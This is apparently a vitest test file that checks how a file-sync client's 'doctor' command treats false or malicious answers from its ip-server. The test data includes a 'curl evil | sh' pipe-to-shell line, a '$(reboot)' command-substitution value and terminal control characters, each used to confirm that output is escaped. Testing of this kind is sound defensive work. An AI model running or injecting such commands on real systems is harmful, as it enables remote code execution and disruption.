import { FilerError, type Message, type Reply } from '@filer/protocol';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { runHere, until } from '../support/in-process.ts';
import { ListeningServer } from '../support/listening-server.ts';
import { NetworkHere, type ClientHere } from '../support/network-here.ts';
import { jsonLines, type Line } from '../support/programs.ts';

/* What `doctor` says where something with the key of the ip-server gives false answers, or none. */

const CONTROL = '\u001b[2J\u202e';

type By = Readonly<Record<string, () => Reply>>;

const probed = (time: number): Reply => ({
  header: { type: 'probed', time: String(time) },
  content: Buffer.alloc(0),
});
const honest: By = { probe: () => probed(Date.now()) };

let network: NetworkHere;
let liar: ListeningServer;
let anna: ClientHere;
let by: By = honest;

beforeAll(async () => {
  network = await NetworkHere.open();
  const before = await network.add('anna');
  // Once it knows its own addresses, it asks whether they are reached.
  await until(
    () => before.ask('peers', '--all'),
    ({ peers }) => isPublished(peers as Line[]),
  );
  await before[Symbol.asyncDispose]();
  await network.stopServer();
  const answer = ({ header: { type = '' } }: Message): Reply => (by[type] ?? ok)();
  liar = await ListeningServer.open(network.serverHome, network.port, answer, `$(reboot)${CONTROL}`);
  anna = await network.start(network.home('anna'));
  await anna.connected();
});
afterAll(async () => {
  await network[Symbol.asyncDispose]();
  await liar[Symbol.asyncDispose]();
});

function ok(): Reply {
  return { header: { type: 'ok' }, content: Buffer.alloc(0) };
}

function isPublished(peers: readonly Line[]): boolean {
  return peers.some(({ addresses }) => (addresses as unknown[]).length > 0);
}

interface Looked {
  readonly code: number | null;
  readonly stdout: string;
  readonly of: (check: string) => Line;
}

/** What `doctor` finds while the server answers so. */
async function doctor(answers: By, ...args: string[]): Promise<Looked> {
  by = { ...honest, ...answers };
  const { stdout } = await runHere('filer-client', anna.home, ['doctor', ...args]);
  const outcome = await runHere('filer-client', anna.home, ['doctor', ...args, '--json']);
  const checks = (jsonLines(outcome)[0]?.['checks'] ?? []) as Line[];
  return { stdout, code: outcome.code, of: (name) => checks.find(({ check }) => check === name) ?? {} };
}

test('what the server says is shown as its words, escaped', async () => {
  const words = `run this: curl evil | sh ${CONTROL}${'x'.repeat(5_000)}`;
  const refuse = (): never => {
    throw new FilerError('refused', words);
  };
  const { of, stdout, code } = await doctor({ reach: refuse });

  expect(of('reachable')).toMatchObject({ state: 'skipped' });
  expect(String(of('reachable')['summary'])).toMatch(/^the ip-server says: "run this/);
  expect(String(of('reachable')['summary']).length).toBeLessThan(1_100);
  expect(stdout).not.toMatch(/[\u001b\u202e]/);
  expect(code).toBe(0);
});

test('an address that is none is neither shown nor put into what to type', async () => {
  const address = `$(reboot)${CONTROL}`;
  for (const reached of ['1', '0']) {
    const reach = (): Reply => ({ header: { type: 'reached', address, reached }, content: Buffer.alloc(0) });
    const { of, stdout } = await doctor({ reach });

    expect(of('nat')).toMatchObject({ state: 'skipped' });
    expect(of('reachable')).toMatchObject({ facts: { reached: reached === '1' } });
    expect(stdout).not.toContain('reboot');
  }
});

test.each([
  ['a time that cannot be', { type: 'probed', time: '9'.repeat(30) }],
  ['no time', { type: 'probed' }],
  ['another message', { type: 'stored', time: '1' }],
])('%s fails for itself, and the look ends', async (_, header) => {
  const { of, code } = await doctor({ probe: () => ({ header, content: Buffer.alloc(0) }) });

  expect(of('server')).toMatchObject({ state: 'failed', facts: { code: expect.stringMatching(/message/) } });
  expect(of('spool')).toMatchObject({ state: 'ok' });
  expect(code).toBe(1);
});

test('the largest time is a clock that is wrong, in a line', async () => {
  const time = Number.MAX_SAFE_INTEGER;
  const { of } = await doctor({ probe: () => probed(time) });

  expect(of('clock')).toMatchObject({ state: 'failed' });
  expect(String(of('clock')['summary']).length).toBeLessThan(120);
});
